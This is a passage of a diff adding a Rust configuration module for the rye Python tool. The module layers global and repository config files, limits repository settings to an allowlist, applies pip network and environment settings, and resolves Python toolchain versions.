@@ -0,0 +1,1287 @@
+use std::env::consts::ARCH;
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::Once;
+use std::{env, fs};
+
+use anyhow::{anyhow, Context, Error};
+use console::style;
+use once_cell::sync::{Lazy, OnceCell};
+use toml_edit::{Document, Item, Table};
+
+use crate::error::{ErrorKind, Failure};
+use crate::pyproject::{get_discovery_start, is_discovery_boundary, PyProject};
+use crate::sources::{
+    current_platform, get_download_url, matches_version, PythonVersion, PythonVersionRequest,
+};
+use crate::utils::{write_atomic, CommandOutput};
+
+static APP_DIR: Lazy<Option<PathBuf>> =
+    Lazy::new(|| simple_home_dir::home_dir().map(|x| x.join(".rye")));
+
+/// Returns the application directory.
+pub fn get_app_dir() -> Result<&'static Path, Error> {
+    APP_DIR
+        .as_deref()
+        .ok_or_else(|| anyhow!("cannot determine app directory"))
+}
+
+/// Returns the path of the global config file.
+pub fn get_config_path() -> Result<PathBuf, Error> {
+    Ok(get_app_dir()?.join("config.toml"))
+}
+
+static CONFIG: OnceCell<Config> = OnceCell::new();
+
+/// The name of the config file checked into a repository.
+pub const REPO_CONFIG_FILENAME: &str = "rye.toml";
+
+const MAX_INSTALL_RETRIES: i64 = 10;
+
+/// The rye configuration.
+///
+/// The global config from `~/.rye/config.toml` is layered over the
+/// `rye.toml` of the repository rye runs in: every setting missing from the
+/// global config is taken from the repository config.
+#[derive(Debug)]
+pub struct Config {
+    /// The config files, from highest to lowest precedence.
+    layers: Vec<ConfigLayer>,
+}
+
+#[derive(Debug)]
+struct ConfigLayer {
+    doc: Document,
+    path: PathBuf,
+}
+
+impl ConfigLayer {
+    fn load(path: &Path) -> Result<ConfigLayer, Error> {
+        let doc = match fs::read_to_string(path) {
+            Ok(contents) => contents
+                .parse::<Document>()
+                .with_context(|| format!("failed to parse {}", path.display()))?,
+            Err(err) if err.kind() == std::io::ErrorKind::NotFound => Document::default(),
+            Err(err) => {
+                return Err(err).with_context(|| format!("failed to read {}", path.display()))
+            }
+        };
+        Ok(ConfigLayer {
+            doc,
+            path: path.to_path_buf(),
+        })
+    }
+
+    /// Loads the `rye.toml` of a repository.
+    ///
+    /// Only the settings in [`REPO_CONFIG_KEYS`] are taken from it, a cloned
+    /// repository must not be able to run commands or weaken TLS.  A file
+    /// that cannot be loaded is reported and skipped.
+    fn load_repo(path: &Path) -> ConfigLayer {
+        let mut layer = match ConfigLayer::load(path) {
+            Ok(layer) => layer,
+            Err(err) => {
+                eprintln!("{} {:#}, ignoring it", style("warning:").yellow(), err);
+                return ConfigLayer {
+                    doc: Document::default(),
+                    path: path.to_path_buf(),
+                };
+            }
+        };
+        for key in restrict_repo_config(&mut layer.doc) {
+            eprintln!(
+                "{} ignoring {} in {}, it can only be set in {}",
+                style("warning:").yellow(),
+                key,
+                path.display(),
+                get_config_path()
+                    .map(|x| x.display().to_string())
+                    .unwrap_or_else(|_| "the global config".into())
+            );
+        }
+        layer
+    }
+
+    /// Resolves a path relative to the folder of the config file.
+    fn resolve_path(&self, path: &str) -> PathBuf {
+        self.path.parent().unwrap_or(Path::new(".")).join(path)
+    }
+}
+
+/// A setting together with the config file it comes from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigEntry<'a> {
+    /// The dotted key, eg: `behavior.autosync`.
+    pub key: String,
+    pub value: String,
+    pub origin: &'a Path,
+}
+
+/// Overrides the download of a specific toolchain.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct ToolchainOverride {
+    pub url: Option<String>,
+    pub sha256: Option<String>,
+}
+
+impl Config {
+    /// Returns the current config, loading it on first use.
+    ///
+    /// A missing config file is the same as an empty one.
+    pub fn current() -> Result<&'static Config, Error> {
+        CONFIG.get_or_try_init(|| {
+            let mut config = Config::from_path(&get_config_path()?)?;
+            if let Some(path) = find_repo_config() {
+                config.layers.push(ConfigLayer::load_repo(&path));
+            }
+            Ok(config)
+        })
+    }
+
+    /// Loads the config from a specific path, without a repository config.
+    pub fn from_path(path: &Path) -> Result<Config, Error> {
+        Ok(Config {
+            layers: vec![ConfigLayer::load(path)?],
+        })
+    }
+
+    /// Looks up a key in a section, returning the value and the layer it
+    /// comes from.
+    fn get(&self, section: &str, key: &str) -> Option<(&Item, &ConfigLayer)> {
+        self.layers.iter().find_map(|layer| {
+            layer
+                .doc
+                .get(section)
+                .and_then(|x| x.get(key))
+                .map(|item| (item, layer))
+        })
+    }
+
+    fn get_str(&self, section: &str, key: &str) -> Option<&str> {
+        self.get(section, key).and_then(|x| x.0.as_str())
+    }
+
+    fn get_bool(&self, section: &str, key: &str) -> Option<bool> {
+        self.get(section, key).and_then(|x| x.0.as_bool())
+    }
+
+    /// The template for toolchain download URLs (`toolchain.download-url-template`).
+    ///
+    /// The template can refer to `{release}`, `{filename}`, `{version}`,
+    /// `{platform}` and `{arch}`.
+    pub fn download_url_template(&self) -> Option<&str> {
+        self.get_str("toolchain", "download-url-template")
+    }
+
+    /// Files in `sha256sum` format with the expected checksums of downloads
+    /// (`toolchain.checksum-files`).
+    ///
+    /// Relative paths are resolved against the folder of the config file.
+    pub fn checksum_files(&self) -> Vec<PathBuf> {
+        match self.get("toolchain", "checksum-files") {
+            Some((item, layer)) => str_list(item)
+                .into_iter()
+                .map(|x| layer.resolve_path(x))
+                .collect(),
+            None => Vec::new(),
+        }
+    }
+
+    /// The CA bundle used to verify TLS connections (`network.ca-bundle`).
+    pub fn ca_bundle(&self) -> Option<PathBuf> {
+        let (item, layer) = self.get("network", "ca-bundle")?;
+        item.as_str().map(|x| layer.resolve_path(x))
+    }
+
+    /// Hosts (optionally with port) for which TLS verification is skipped
+    /// (`network.trusted-hosts`).
+    pub fn trusted_hosts(&self) -> Vec<&str> {
+        self.get("network", "trusted-hosts")
+            .map(|x| str_list(x.0))
+            .unwrap_or_default()
+    }
+
+    /// The package index to resolve and install from instead of PyPI
+    /// (`network.index-url`).
+    pub fn index_url(&self) -> Option<&str> {
+        self.get_str("network", "index-url")
+    }
+
+    /// Additional package indexes (`network.extra-index-urls`).
+    pub fn extra_index_urls(&self) -> Vec<&str> {
+        self.get("network", "extra-index-urls")
+            .map(|x| str_list(x.0))
+            .unwrap_or_default()
+    }
+
+    /// Environment variables that apply the network config to pip and the
+    /// other python tools rye invokes.  Only these get them, not the scripts
+    /// of a project.
+    pub fn network_env(&self) -> Vec<(&'static str, OsString)> {
+        let mut rv = Vec::new();
+        if let Some(ca_bundle) = self.ca_bundle() {
+            for var in ["PIP_CERT", "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE"] {
+                rv.push((var, ca_bundle.clone().into_os_string()));
+            }
+        }
+        let trusted_hosts = self.trusted_hosts();
+        if !trusted_hosts.is_empty() {
+            rv.push(("PIP_TRUSTED_HOST", trusted_hosts.join(" ").into()));
+        }
+        rv
+    }
+
+    /// The build backend `rye init` uses for new projects
+    /// (`default.build-system`).
+    pub fn default_build_system(&self) -> Option<&str> {
+        self.get_str("default", "build-system")
+    }
+
+    /// The toolchain used where no version is requested (`default.toolchain`,
+    /// for instance `"cpython@3.12"`).
+    pub fn default_toolchain(&self) -> Option<&str> {
+        self.get_str("default", "toolchain")
+    }
+
+    /// Sets or (with `None`) removes `default.toolchain`.
+    ///
+    /// This changes the global config only.
+    pub fn set_default_toolchain(&mut self, version: Option<&str>) {
+        self.set("default", "toolchain", version.map(toml_edit::value));
+    }
+
+    /// Sets `behavior.check-toolchain-updates` in the global config.
+    pub fn set_check_toolchain_updates(&mut self, enabled: bool) {
+        self.set(
+            "behavior",
+            "check-toolchain-updates",
+            Some(toml_edit::value(enabled)),
+        );
+    }
+
+    /// Sets or (with `None`) removes a key in the global config.
+    ///
+    /// Sections left empty are removed.
+    fn set(&mut self, section: &str, key: &str, value: Option<Item>) {
+        let section = &mut self.layers[0].doc[section];
+        match value {
+            Some(value) => {
+                if section.is_none() {
+                    *section = Item::Table(Table::new());
+                }
+                section[key] = value;
+            }
+            None => {
+                if let Some(table) = section.as_table_like_mut() {
+                    table.remove(key);
+                    if table.is_empty() {
+                        *section = Item::None;
+                    }
+                }
+            }
+        }
+    }
+
+    /// How often an install that failed because of a network error is
+    /// retried (`network.install-retries`, 2 by default, at most 10).
+    pub fn install_retries(&self) -> Result<u32, Error> {
+        match self.get("network", "install-retries") {
+            None => Ok(2),
+            Some((item, layer)) => item
+                .as_integer()
+                .filter(|x| (0..=MAX_INSTALL_RETRIES).contains(x))
+                .map(|x| x as u32)
+                .ok_or_else(|| {
+                    anyhow!(
+                        "network.install-retries in {} must be a number from 0 to {}",
+                        layer.path.display(),
+                        MAX_INSTALL_RETRIES
+                    )
+                }),
+        }
+    }
+
+    /// Packages that may only be installed from wheels (`build.only-binary`,
+    /// `:all:` for all packages).
+    pub fn only_binary(&self) -> Vec<&str> {
+        self.get("build", "only-binary")
+            .map(|(x, _)| str_list(x))
+            .unwrap_or_default()
+    }
+
+    /// Packages that are always built from source (`build.no-binary`,
+    /// `:all:` for all packages).
+    pub fn no_binary(&self) -> Vec<&str> {
+        self.get("build", "no-binary")
+            .map(|(x, _)| str_list(x))
+            .unwrap_or_default()
+    }
+
+    /// The command run when building a package failed because of missing
+    /// system prerequisites (`build.bootstrap-command`).
+    pub fn build_bootstrap_command(&self) -> Option<&str> {
+        self.get_str("build", "bootstrap-command")
+    }
+
+    /// The size the caches may grow to before old entries are evicted
+    /// (`cache.max-size`, for instance `"5GB"`).
+    pub fn cache_max_size(&self) -> Option<&str> {
+        self.get_str("cache", "max-size")
+    }
+
+    /// How long unused cache entries are kept (`cache.max-age`, for
+    /// instance `"30d"`).
+    pub fn cache_max_age(&self) -> Option<&str> {
+        self.get_str("cache", "max-age")
+    }
+
+    /// How long responses from the package index are reused
+    /// (`cache.index-ttl`, for instance `"1h"`).
+    pub fn cache_index_ttl(&self) -> Option<&str> {
+        self.get_str("cache", "index-ttl")
+    }
+
+    /// Whether pip and pip-tools may pick up settings from pip's own config
+    /// files and `PIP_*` environment variables (`behavior.use-pip-config`).
+    ///
+    /// `None` if not configured, in which case they do.
+    pub fn use_pip_config(&self) -> Option<bool> {
+        self.get_bool("behavior", "use-pip-config")
+    }
+
+    /// Whether `rye run` syncs a virtualenv that went out of date with the
+    /// project files first (`behavior.autosync`).
+    pub fn autosync(&self) -> bool {
+        self.get_bool("behavior", "autosync").unwrap_or(false)
+    }
+
+    /// Whether `rye lock` looks up every locked release on the package index
+    /// to warn about yanked ones (`behavior.check-yanked`).
+    pub fn check_yanked(&self) -> bool {
+        self.get_bool("behavior", "check-yanked").unwrap_or(false)
+    }
+
+    /// Whether `rye sync` keeps the lockfiles as they are unless the
+    /// dependencies in `pyproject.toml` changed (`behavior.relock-if-needed`).
+    pub fn relock_if_needed(&self) -> bool {
+        self.get_bool("behavior", "relock-if-needed")
+            .unwrap_or(false)
+    }
+
+    /// Whether the virtualenv and lockfiles of a project in a read-only
+    /// checkout are kept in the cache folder instead
+    /// (`behavior.read-only-fallback`).
+    pub fn read_only_fallback(&self) -> bool {
+        self.get_bool("behavior", "read-only-fallback")
+            .unwrap_or(false)
+    }
+
+    /// Whether `rye sync` puts shims for the scripts of the virtualenv into
+    /// the shims folder (`behavior.venv-shims`).
+    pub fn venv_shims(&self) -> bool {
+        self.get_bool("behavior", "venv-shims").unwrap_or(false)
+    }
+
+    /// Whether `rye sync` installs the global tools a project asks for in
+    /// `tool.rye.tools` (`behavior.sync-tools`).  This writes outside of the
+    /// project, so it is off by default and cannot be turned on by a
+    /// repository.
+    pub fn sync_tools(&self) -> bool {
+        self.get_bool("behavior", "sync-tools").unwrap_or(false)
+    }
+
+    /// Whether `rye sync` points out newer patch releases of the toolchain
+    /// (`behavior.check-toolchain-updates`, on by default).
+    pub fn check_toolchain_updates(&self) -> bool {
+        self.get_bool("behavior", "check-toolchain-updates")
+            .unwrap_or(true)
+    }
+
+    /// Returns the version pinned for an internal tool in `[internal-tools]`.
+    pub fn internal_tool_version(&self, name: &str) -> Option<&str> {
+        self.get_str("internal-tools", name)
+    }
+
+    /// Returns the override for a toolchain from `[toolchain.overrides]`.
+    ///
+    /// Overrides are keyed by the full version (eg: `cpython@3.11.1`).
+    pub fn toolchain_override(&self, version: &PythonVersion) -> Option<ToolchainOverride> {
+        let item = self
+            .get("toolchain", "overrides")
+            .and_then(|x| x.0.get(version.to_string()))?;
+        Some(ToolchainOverride {
+            url: item.get("url").and_then(|x| x.as_str()).map(Into::into),
+            sha256: item.get("sha256").and_then(|x| x.as_str()).map(Into::into),
+        })
+    }
+
+    /// The environment config for the given processes (`[env]` and
+    /// `[env.scripts]`).
+    pub fn env_config(&self, target: EnvTarget) -> EnvConfig {
+        let lookup = |key: &str| match target {
+            EnvTarget::Tools => self.get("env", key).map(|x| x.0),
+            EnvTarget::Scripts => self.get("env", "scripts").and_then(|x| x.0.get(key)),
+        };
+        let strings = |item: &Item| {
+            str_list(item)
+                .into_iter()
+                .map(|x| x.to_string())
+                .collect::<Vec<_>>()
+        };
+        let mut rv = EnvConfig {
+            scrub: match lookup("scrub") {
+                Some(item) => strings(item),
+                None if target == EnvTarget::Tools => DEFAULT_TOOL_ENV_SCRUB
+                    .iter()
+                    .map(|x| x.to_string())
+                    .collect(),
+                None => Vec::new(),
+            },
+            allow: lookup("allow").map(strings).unwrap_or_default(),
+            set: lookup("set")
+                .and_then(|x| x.as_table_like())
+                .map(|table| {
+                    table
+                        .iter()
+                        .filter_map(|(key, value)| Some((key.to_string(), value.as_str()?.into())))
+                        .collect()
+                })
+                .unwrap_or_default(),
+        };
+        if target == EnvTarget::Tools {
+            rv.allow
+                .extend(TOOL_ENV_ALLOW.iter().map(|x| x.to_string()));
+        }
+        rv
+    }
+
+    /// Lists the effective settings and the files they come from.
+    ///
+    /// Settings are dotted keys of the form `section.key` (nested tables add
+    /// more parts), sorted by key.
+    pub fn entries(&self) -> Vec<ConfigEntry<'_>> {
+        let mut rv: Vec<ConfigEntry<'_>> = Vec::new();
+        let mut seen = Vec::new();
+        for layer in &self.layers {
+            let mut found = Vec::new();
+            for (section, item) in layer.doc.iter() {
+                match item.as_table_like() {
+                    Some(table) => {
+                        for (key, item) in table.iter() {
+                            let key = format!("{}.{}", section, key);
+                            if !seen.contains(&key) {
+                                flatten_item(&key, item, &layer.path, &mut rv);
+                                found.push(key);
+                            }
+                        }
+                    }
+                    None => {
+                        if !seen.iter().any(|x| x == section) {
+                            flatten_item(section, item, &layer.path, &mut rv);
+                            found.push(section.to_string());
+                        }
+                    }
+                }
+            }
+            seen.extend(found);
+        }
+        rv.sort_by(|a, b| a.key.cmp(&b.key));
+        rv
+    }
+
+    /// The path of the global config file.
+    pub fn path(&self) -> &Path {
+        &self.layers[0].path
+    }
+
+    /// The paths of all config files in order of precedence.
+    pub fn paths(&self) -> Vec<&Path> {
+        self.layers.iter().map(|x| x.path.as_path()).collect()
+    }
+
+    /// Writes the global config back to its file.
+    pub fn save(&self) -> Result<(), Error> {
+        let layer = &self.layers[0];
+        if let Some(parent) = layer.path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        write_atomic(&layer.path, layer.doc.to_string())
+            .with_context(|| format!("unable to write {}", layer.path.display()))
+    }
+}
+
+/// Reads a key that can be a string or an array of strings.
+fn str_list(item: &Item) -> Vec<&str> {
+    match item.as_array() {
+        Some(array) => array.iter().filter_map(|x| x.as_str()).collect(),
+        None => item.as_str().into_iter().collect(),
+    }
+}
+
+fn flatten_item<'a>(key: &str, item: &Item, origin: &'a Path, rv: &mut Vec<ConfigEntry<'a>>) {
+    match item.as_table_like() {
+        Some(table) => {
+            for (sub_key, item) in table.iter() {
+                flatten_item(&format!("{}.{}", key, sub_key), item, origin, rv);
+            }
+        }
+        None => {
+            if let Some(value) = item.as_value() {
+                rv.push(ConfigEntry {
+                    key: key.to_string(),
+                    value: value.clone().decorated("", "").to_string(),
+                    origin,
+                });
+            }
+        }
+    }
+}
+
+/// The settings a repository's `rye.toml` can make.
+///
+/// Anything that runs commands (`build.bootstrap-command`), changes how
+/// connections are verified (`network.ca-bundle`, `network.trusted-hosts`),
+/// where toolchains come from or the environment of processes is left to
+/// the global config.
+const REPO_CONFIG_KEYS: &[&str] = &[
+    "behavior.autosync",
+    "behavior.check-toolchain-updates",
+    "behavior.check-yanked",
+    "behavior.read-only-fallback",
+    "behavior.relock-if-needed",
+    "behavior.use-pip-config",
+    "build.no-binary",
+    "build.only-binary",
+    "cache.index-ttl",
+    "default.build-system",
+    "default.toolchain",
+    "network.extra-index-urls",
+    "network.index-url",
+    "network.install-retries",
+];
+
+/// Removes the settings not in [`REPO_CONFIG_KEYS`] from a repository
+/// config and returns their keys.
+fn restrict_repo_config(doc: &mut Document) -> Vec<String> {
+    let mut removed = Vec::new();
+    let sections: Vec<String> = doc.iter().map(|x| x.0.to_string()).collect();
+    for section in sections {
+        let table = match doc[section.as_str()].as_table_like_mut() {
+            Some(table) => table,
+            None => {
+                doc.remove(&section);
+                removed.push(section);
+                continue;
+            }
+        };
+        let keys: Vec<String> = table.iter().map(|x| x.0.to_string()).collect();
+        for key in keys {
+            let key = format!("{}.{}", section, key);
+            if !REPO_CONFIG_KEYS.contains(&key.as_str()) {
+                table.remove(&key[section.len() + 1..]);
+                removed.push(key);
+            }
+        }
+        if table.is_empty() {
+            doc.remove(&section);
+        }
+    }
+    removed
+}
+
+/// Finds the `rye.toml` of the repository rye runs in.
+///
+/// The search goes up from the current directory (or the explicit project
+/// root) and stops where project discovery stops: at the root of the git
+/// repository or a project with `discovery-stop`.
+pub fn find_repo_config() -> Option<PathBuf> {
+    let mut here = get_discovery_start()?;
+    loop {
+        let path = here.join(REPO_CONFIG_FILENAME);
+        if path.is_file() {
+            return Some(path);
+        }
+        if is_discovery_boundary(&here) || !here.pop() {
+            return None;
+        }
+    }
+}
+
+/// The environment variables removed from the environment of pip, pip-tools
+/// and virtualenv unless `env.scrub` says otherwise.
+const DEFAULT_TOOL_ENV_SCRUB: &[&str] = &["PYTHONPATH", "PYTHONHOME", "PIP_*"];
+
+/// Variables always passed to pip, pip-tools and virtualenv: either rye sets
+/// them itself or `behavior.use-pip-config` decides about them.
+const TOOL_ENV_ALLOW: &[&str] = &[
+    "PIP_CACHE_DIR",
+    "PIP_CERT",
+    "PIP_CLIENT_CERT",
+    "PIP_PROXY",
+    "PIP_TRUSTED_HOST",
+    "PIP_CONFIG_FILE",
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_FIND_LINKS",
+    "PIP_NO_INDEX",
+];
+
+/// The processes an environment config applies to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum EnvTarget {
+    /// pip, pip-tools and virtualenv (`[env]`).
+    Tools,
+    /// The scripts started by `rye run` (`[env.scripts]`).
+    Scripts,
+}
+
+/// How the environment of the processes rye starts is cleaned up.
+#[derive(Debug, Clone, Default)]
+pub struct EnvConfig {
+    /// The variables to remove, a trailing `*` matches any suffix.
+    pub scrub: Vec<String>,
+    /// The variables kept even if `scrub` matches them.
+    pub allow: Vec<String>,
+    /// The variables set to a fixed value.
+    pub set: Vec<(String, String)>,
+}
+
+impl EnvConfig {
+    /// Is this variable removed?
+    pub fn scrubs(&self, key: &str) -> bool {
+        let matches = |pattern: &String| match pattern.strip_suffix('*') {
+            Some(prefix) => key.starts_with(prefix),
+            None => key == pattern,
+        };
+        self.scrub.iter().any(matches) && !self.allow.iter().any(matches)
+    }
+}
+
+/// Applies the environment config to a process rye starts.
+///
+/// Variables rye sets on the command explicitly are left alone.  The python
+/// tools also get the network config (see [`Config::network_env`]).
+pub fn apply_env_config(cmd: &mut Command, target: EnvTarget) -> Result<(), Error> {
+    apply_config_env(cmd, Config::current()?, target);
+    Ok(())
+}
+
+fn apply_config_env(cmd: &mut Command, config: &Config, target: EnvTarget) {
+    let env_config = config.env_config(target);
+    let explicit: Vec<OsString> = cmd.get_envs().map(|x| x.0.to_os_string()).collect();
+    for (key, _) in env::vars_os() {
+        if !explicit.contains(&key) && key.to_str().is_some_and(|x| env_config.scrubs(x)) {
+            cmd.env_remove(&key);
+        }
+    }
+    for (key, value) in &env_config.set {
+        if !explicit.iter().any(|x| x == key.as_str()) {
+            cmd.env(key, value);
+        }
+    }
+    if target != EnvTarget::Tools {
+        return;
+    }
+    // variables of the environment or the `[env]` config win
+    for (key, value) in config.network_env() {
+        let inherited = env::var_os(key).is_some() && !env_config.scrubs(key);
+        if !inherited
+            && !explicit.iter().any(|x| x == key)
+            && !env_config.set.iter().any(|x| x.0 == key)
+        {
+            cmd.env(key, value);
+        }
+    }
+}
+
+/// Applies the environment config to the environment of this process, for
+/// processes started by replacing it.
+pub fn apply_env_config_to_process(target: EnvTarget) -> Result<(), Error> {
+    let env_config = Config::current()?.env_config(target);
+    for (key, _) in env::vars_os() {
+        if key.to_str().is_some_and(|x| env_config.scrubs(x)) {
+            env::remove_var(key);
+        }
+    }
+    for (key, value) in env_config.set {
+        env::set_var(key, value);
+    }
+    Ok(())
+}
+
+/// Environment variables through which pip picks up where to find packages.
+const PIP_INDEX_VARS: &[&str] = &[
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_FIND_LINKS",
+    "PIP_NO_INDEX",
+];
+
+/// Finds pip configuration which can change where packages come from.
+///
+/// Returns the environment variables and config files which are set.
+pub fn find_pip_config() -> Vec<String> {
+    let mut rv: Vec<String> = PIP_INDEX_VARS
+        .iter()
+        .filter(|x| env::var_os(x).is_some())
+        .map(|x| x.to_string())
+        .collect();
+    let mut files = vec![
+        PathBuf::from("/etc/pip.conf"),
+        PathBuf::from("/etc/xdg/pip/pip.conf"),
+    ];
+    if let Some(home) = simple_home_dir::home_dir() {
+        files.push(home.join(".config/pip/pip.conf"));
+        files.push(home.join(".pip/pip.conf"));
+    }
+    files.extend(env::var_os("PIP_CONFIG_FILE").map(PathBuf::from));
+    rv.extend(
+        files
+            .into_iter()
+            .filter(|x| x.is_file())
+            .map(|x| x.display().to_string()),
+    );
+    rv
+}
+
+static PIP_CONFIG_REPORTED: Once = Once::new();
+
+/// Applies `behavior.use-pip-config` and the `[env]` config to an invocation
+/// of pip or pip-tools.
+///
+/// Ignored pip configuration is reported once per process, as is pip
+/// configuration that is used without being asked for.
+pub fn apply_pip_config(cmd: &mut Command, output: CommandOutput) -> Result<(), Error> {
+    apply_env_config(cmd, EnvTarget::Tools)?;
+    let config = Config::current()?;
+    let use_pip_config = config.use_pip_config();
+    if use_pip_config == Some(false) {
+        // pip does not read any config file if pointed to the null device
+        cmd.env("PIP_CONFIG_FILE", "/dev/null");
+        for var in PIP_INDEX_VARS {
+            cmd.env_remove(var);
+        }
+    }
+    if let Some(index_url) = config.index_url() {
+        cmd.env("PIP_INDEX_URL", index_url);
+    }
+    let extra_index_urls = config.extra_index_urls();
+    if !extra_index_urls.is_empty() {
+        cmd.env("PIP_EXTRA_INDEX_URL", extra_index_urls.join(" "));
+    }
+    if use_pip_config == Some(true) || output == CommandOutput::Quiet {
+        return Ok(());
+    }
+    PIP_CONFIG_REPORTED.call_once(|| {
+        let found = find_pip_config();
+        if found.is_empty() {
+            return;
+        }
+        let found = found.join(", ");
+        if use_pip_config.is_some() {
+            eprintln!(
+                "{} ignoring pip configuration ({}) because behavior.use-pip-config is off",
+                style("warning:").yellow(),
+                found
+            );
+        } else {
+            eprintln!(
+                "{} using pip configuration ({}), set behavior.use-pip-config to make this explicit",
+                style("note:").cyan(),
+                found
+            );
+        }
+    });
+    Ok(())
+}
+
+/// Returns the package indexes and find-links locations pip resolves against.
+///
+/// The indexes from the config win over the environment variables, pip
+/// config files are not considered.
+pub fn get_pip_index_urls() -> Result<Vec<String>, Error> {
+    let config = Config::current()?;
+    let use_env = config.use_pip_config() != Some(false);
+    let mut rv = get_package_index_urls()?;
+    rv.extend(
+        env::var("PIP_FIND_LINKS")
+            .ok()
+            .filter(|_| use_env)
+            .unwrap_or_default()
+            .split_whitespace()
+            .map(Into::into),
+    );
+    Ok(rv)
+}
+
+/// Returns the package indexes pip resolves against, the primary one first.
+pub fn get_package_index_urls() -> Result<Vec<String>, Error> {
+    let config = Config::current()?;
+    let use_env = config.use_pip_config() != Some(false);
+    let var = |name| env::var(name).ok().filter(|_| use_env);
+    let mut rv = vec![config
+        .index_url()
+        .map(Into::into)
+        .or_else(|| var("PIP_INDEX_URL"))
+        .unwrap_or_else(|| "https://pypi.org/simple".into())];
+    let extra_index_urls = config.extra_index_urls();
+    if var("PIP_NO_INDEX").is_some() {
+        rv.clear();
+    } else if !extra_index_urls.is_empty() {
+        rv.extend(extra_index_urls.into_iter().map(Into::into));
+    } else {
+        rv.extend(
+            var("PIP_EXTRA_INDEX_URL")
+                .unwrap_or_default()
+                .split_whitespace()
+                .map(Into::into),
+        );
+    }
+    Ok(rv)
+}
+
+/// Returns the cache directory for a particular python version that can be downloaded.
+pub fn get_canonical_py_path(version: &PythonVersion) -> Result<PathBuf, Error> {
+    let mut rv = get_app_dir()?.to_path_buf();
+    rv.push("py");
+    rv.push(version.to_string());
+    Ok(rv)
+}
+
+/// Returns the path of the python binary for the given version.
+pub fn get_py_bin(version: &PythonVersion) -> Result<PathBuf, Error> {
+    let mut p = get_canonical_py_path(version)?;
+
+    // It's permissible to link Python binaries directly
+    if p.is_file() {
+        return Ok(p);
+    }
+
+    p.push("install");
+    p.push("bin");
+    p.push("python3");
+    Ok(p)
+}
+
+/// Returns a pinnable version for this version request.
+///
+/// This is the version number that will be written into `.python-version`
+pub fn get_pinnable_version(req: &PythonVersionRequest) -> Option<String> {
+    let mut target_version = None;
+
+    // If the version request points directly to a known version for which we
+    // have a known binary, we can use that.
+    if let Ok(ver) = PythonVersion::try_from(req.clone()) {
+        if let Ok(path) = get_py_bin(&ver) {
+            if path.is_file() {
+                target_version = Some(ver);
+            }
+        }
+    }
+
+    // otherwise, any version we can download is an acceptable version
+    if let Some((version, _)) = get_download_url(req, current_platform(), ARCH) {
+        target_version = Some(version);
+    }
+
+    // we return the stringified version of the version, but if always remove the
+    // cpython@ prefix to make it reusable with other toolchains such as pyenv.
+    if let Some(version) = target_version {
+        let serialized_version = version.to_string();
+        Some(
+            if let Some(rest) = serialized_version.strip_prefix("cpython@") {
+                rest.to_string()
+            } else {
+                serialized_version
+            },
+        )
+    } else {
+        None
+    }
+}
+
+/// Returns a list of all registered toolchains.
+pub fn list_known_toolchains() -> Result<Vec<PythonVersion>, Error> {
+    let folder = get_app_dir()?.join("py");
+    let mut rv = Vec::new();
+    if let Ok(iter) = folder.read_dir() {
+        for entry in iter {
+            let entry = entry?;
+            if let Ok(ver) = entry.file_name().as_os_str().to_string_lossy().parse() {
+                rv.push(ver);
+            }
+        }
+    }
+    Ok(rv)
+}
+
+/// Returns the default author from git.
+pub fn get_default_author() -> Option<(String, String)> {
+    let rv = Command::new("git")
+        .arg("config")
+        .arg("--get-regexp")
+        .arg("^user.(name|email)$")
+        .stdout(Stdio::piped())
+        .output()
+        .ok()?;
+
+    let mut name = None;
+    let mut email = None;
+
+    for line in std::str::from_utf8(&rv.stdout).ok()?.lines() {
+        match line.split_once(' ') {
+            Some(("user.email", value)) => {
+                email = Some(value.to_string());
+            }
+            Some(("user.name", value)) => {
+                name = Some(value.to_string());
+            }
+            _ => {}
+        }
+    }
+
+    Some((name?, email.unwrap_or_else(|| "".into())))
+}
+
+/// Reads the requested Python versions for the current project.
+///
+/// Versions do not need to be complete, `3.11` is a valid request for any
+/// 3.11 release, and multiple versions can be given in order of preference.
+///
+/// The precedence is as follows:
+///
+/// 1. a `.python-version` file in the project (or below it, closer to the
+///    current directory)
+/// 2. the `toolchain` key in the `[tool.rye]` section of the pyproject.toml
+/// 3. a `.python-version` file further up the tree
+pub fn load_python_version_requests() -> Option<Vec<PythonVersionRequest>> {
+    let version_file = find_python_version_file();
+    let project = PyProject::discover().ok();
+
+    if let Some((ref path, _)) = version_file {
+        let in_project = project
+            .as_ref()
+            .is_none_or(|proj| path.starts_with(proj.root_path()));
+        if in_project {
+            return version_file.map(|x| x.1);
+        }
+    }
+
+    project
+        .and_then(|proj| proj.toolchain_requests())
+        .or_else(|| version_file.map(|x| x.1))
+}
+
+/// Finds the closest `.python-version` file and parses it.
+fn find_python_version_file() -> Option<(PathBuf, Vec<PythonVersionRequest>)> {
+    let mut here = get_discovery_start()?;
+
+    loop {
+        let ver_file = here.join(".python-version");
+        if let Ok(contents) = fs::read_to_string(&ver_file) {
+            let rv = parse_python_version_file(&contents);
+            return if rv.is_empty() {
+                None
+            } else {
+                Some((ver_file, rv))
+            };
+        }
+
+        if !here.pop() {
+            break;
+        }
+    }
+
+    None
+}
+
+fn parse_python_version_file(contents: &str) -> Vec<PythonVersionRequest> {
+    contents
+        .lines()
+        .map(|line| line.split('#').next().unwrap_or("").trim())
+        .filter(|line| !line.is_empty())
+        .filter_map(|line| line.parse().ok())
+        .collect()
+}
+
+/// Resolves a version request to a concrete version.
+///
+/// The newest matching installed toolchain is preferred, otherwise the best
+/// downloadable version is picked.
+pub fn resolve_python_version(req: &PythonVersionRequest) -> Option<PythonVersion> {
+    let installed = list_known_toolchains()
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|ver| matches_version(req, ver))
+        .max();
+    installed.or_else(|| get_download_url(req, current_platform(), ARCH).map(|x| x.0))
+}
+
+/// Returns the request from `default.toolchain` in the config, if any.
+pub fn get_default_toolchain_request() -> Result<Option<PythonVersionRequest>, Error> {
+    Config::current()?
+        .default_toolchain()
+        .map(|x| x.parse().context("invalid default.toolchain in config"))
+        .transpose()
+}
+
+/// Returns the toolchain to use when nothing requests a specific version.
+///
+/// This is `default.toolchain` from the config or else the latest cpython.
